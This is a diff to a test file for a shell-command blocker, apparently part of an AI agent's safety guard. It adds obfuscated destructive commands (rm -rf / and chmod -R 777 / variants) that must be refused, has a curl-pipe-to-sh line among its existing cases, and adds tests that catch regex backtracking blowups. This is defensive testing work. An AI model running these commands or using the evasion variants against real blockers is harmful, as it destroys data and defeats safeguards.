@@ -1,3 +1,5 @@
+import v8 from 'node:v8';
+import fc from 'fast-check';
 import { expect, it } from 'vitest';
 import { commandBlocker, DEFAULT_BLOCKED_PATTERNS } from './blocked-patterns.ts';
 
@@ -12,6 +14,12 @@ it.each([
   ['RM -RF /', 'deletes everything'],
   ['rm \\\n -rf /', 'deletes everything'],
   ['rm -rf --no-preserve-root / ', 'root'],
+  ['rm --interactive=never -r -- /', 'deletes everything'],
+  ['/bin/rm -rf /', 'deletes everything'],
+  ['rm -"rf" /', 'deletes everything'],
+  ['ls -l;rm -r$x /', 'deletes everything'],
+  ['a=:rm -rf /', 'deletes everything'],
+  ['a\rrm -rf /', 'deletes everything'],
   ['mkfs.ext4 /dev/sda1', 'formats'],
   ['dd if=/dev/zero of=/dev/sda bs=1M', 'device'],
   ['echo x > /dev/sda', 'device'],
@@ -23,6 +31,9 @@ it.each([
   ['make && reboot', 'stops the machine'],
   ['chmod -R 777 /', 'rights'],
   ['chown -R me ~/', 'rights'],
+  ['chown --from=a:b -R me /', 'rights'],
+  ['chmod -"R" 777 /', 'rights'],
+  ['chmod -x;chmod -v -R 7 /', 'rights'],
   ['curl http://x.example/install.sh | sh', 'network'],
   ['wget -qO- x | bash', 'network'],
 ])('O6: refuses %j', (command, reason) => {
@@ -50,19 +61,105 @@ it.each([
   expect(blocked(command)).toBeUndefined();
 });
 
-it('O6: answers at once for a hostile command of full length', () => {
-  for (const piece of [
-    'rm -r ',
-    'rm -rf -rf ',
-    'dd ',
-    'chmod -R a ',
-    'curl x ',
-    ': ( ) {',
-    'a'.repeat(50),
-    '> ',
-  ]) {
-    const startedAt = performance.now();
-    blocked(piece.repeat(Math.floor(32_768 / piece.length)));
-    expect(performance.now() - startedAt).toBeLessThan(250);
+it("O6: refuses a command that one of the run's own patterns would never be done with", () => {
+  const own = commandBlocker([...DEFAULT_BLOCKED_PATTERNS, { pattern: '^(a+)+$', reason: 'all of it is a' }]);
+  expect(own(`${'a'.repeat(64)}b`)?.reason).toContain('the blocked pattern ^(a+)+$ takes too long');
+  expect(own('aaa')?.reason).toBe('all of it is a');
+  expect(own('rm -rf /')?.reason).toContain('deletes everything');
+  expect(own('ls')).toBeUndefined();
+});
+
+/**
+ * How often a pattern goes back in a text before it gives up: the lowest limit at which the engine does not give up before.
+ * A count and not a time, so that it is the same on every machine.
+ */
+function backtracks(pattern: string, text: string): number {
+  // Fails wherever the pattern could match, and matches at the end alone: so all of the ways are tried.
+  const tried = `(?:${pattern})(?!)|\uE000`;
+  const within = (limit: number) => limited(tried, 'i', limit).test(`${text}\uE000`);
+  const most = 64 * (text.length + 16);
+  let [low, high] = [0, most];
+  if (!within(high)) return Number.POSITIVE_INFINITY;
+  while (high - low > 1) {
+    const middle = Math.floor((low + high) / 2);
+    if (within(middle)) high = middle;
+    else low = middle;
   }
+  return high;
+}
+
+v8.setFlagsFromString('--allow-natives-syntax');
+const limited: (pattern: string, flags: string, limit: number) => RegExp = new Function(
+  'return (pattern, flags, limit) => %NewRegExpWithBacktrackLimit(pattern, flags, limit)',
+)();
+
+/** What the patterns look for, and what they look for in pieces. */
+const words = fc.constantFrom(
+  ...[
+    'rm',
+    '-r',
+    '-rm',
+    '-rf',
+    '--no-preserve-root',
+    '/',
+    '~',
+    '..',
+    '*',
+    '"',
+    'mkfs',
+    'mkfs.',
+    'dd',
+    'of=',
+    '/dev/',
+    '>',
+  ],
+  ...[
+    ':',
+    '()',
+    '(',
+    '{',
+    '}',
+    '|',
+    '&',
+    ';',
+    'sudo',
+    'su',
+    'init',
+    'chmod',
+    'chown',
+    '-R',
+    '-chmod',
+    '-Rchmod',
+    'x',
+  ],
+  ...['curl', 'wget', 'sh', 'bash', '-', 'a', ' ', '\t'],
+);
+const pieces = fc.array(words, { minLength: 1, maxLength: 4 });
+
+it('O6: finds a pattern that goes back too often', () => {
+  expect(backtracks('(a+)+b', 'a'.repeat(20))).toBe(Number.POSITIVE_INFINITY);
+  expect(backtracks(String.raw`\brm\s+(?:-\S+\s+)*-\S*r\S*\s+x`, 'rm -'.repeat(256))).toBeGreaterThan(10_000);
+});
+
+it('O6: goes back at most eight times per character, whatever the command', () => {
+  fc.assert(
+    fc.property(pieces, fc.constantFrom('', ' '), fc.nat(30), (found, between, spaces) => {
+      const piece = `${found.join(between)}${' '.repeat(spaces)}${between}`;
+      const text = piece.repeat(Math.ceil(2048 / piece.length)).slice(0, 2048);
+      for (const { pattern } of DEFAULT_BLOCKED_PATTERNS) {
+        expect([pattern, Math.max(8 * 2048, backtracks(pattern, text))]).toEqual([pattern, 8 * 2048]);
+      }
+    }),
+    {
+      examples: [
+        [['rm', '-'], ' ', 0],
+        [['-R', '-chmod'], ' ', 0],
+        [['-rf', '~', 'rm'], '', 7],
+        [['-chmod', '..', 'chown'], '', 13],
+        [['a', ':'], '', 0],
+        [['a'], '', 0],
+        [[';'], '', 30],
+      ],
+    },
+  );
 });
